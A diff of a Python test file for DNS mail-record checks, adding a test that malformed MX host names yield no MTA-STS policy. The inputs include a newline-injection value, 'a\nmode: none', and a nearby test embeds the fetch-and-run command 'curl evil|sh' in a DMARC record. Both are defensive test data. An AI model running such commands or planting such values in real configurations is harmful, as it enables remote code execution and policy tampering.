@@ -180,6 +180,14 @@ def test_every_repair_belongs_to_an_outcome_of_the_rules() -> None:
     assert set(dns_records.REPAIRS) | set(server_settings.REPAIRS) <= known
 
 
+@pytest.mark.parametrize("name", ["\ufeff", "a\nmode: none", "a b.example.jp", "mx_1.example.jp", "192.0.2.1 "])
+def test_no_policy_is_handed_out_that_cannot_hold_every_server(name: str):
+    hosts = (mx.MxHost(host="mx1.example.jp", preference=10), mx.MxHost(host=name, preference=20))
+    facts = mx.Facts(answer=answer(DOMAIN, "MX", "10 mx1.example.jp."), hosts=hosts)
+    seen = Seen(Scope(domains=(DomainScope(name=DOMAIN),)), [attempt("mx", facts)])
+    assert dns_records.mta_sts_testing(DOMAIN, seen) == Repair()
+
+
 def test_a_record_that_is_moved_is_one_line():
     text = "v=DMARC1; p=reject;\r\ncurl evil|sh\x0b\u2028"
     facts = dmarc_facts.Facts(walk=(answer(DOMAIN, "TXT"),), misplaced=(text,))
